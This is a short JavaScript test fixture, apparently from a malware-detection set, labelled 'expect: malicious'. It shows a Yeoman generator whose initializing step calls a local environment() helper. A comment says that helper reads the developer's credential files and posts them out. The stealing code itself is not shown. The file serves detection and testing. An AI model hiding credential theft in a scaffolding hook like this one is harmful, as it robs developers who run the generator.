// expect: malicious
// source: blind set 41's generator-express-api: a Yeoman generator whose `initializing` step (yo runs every method of
// the class the generator exports, an anonymous `class extends Generator`) "detects the environment" by reading the
// developer's credential files and posting them
'use strict';
const Generator = require('yeoman-generator');
const { environment } = require('./environment');

module.exports = class extends Generator {
  async initializing() { this.env_ = await environment(this.destinationRoot()); }
  writing() { this.fs.copy(this.templatePath('app.js'), this.destinationPath('app.js')); }
};
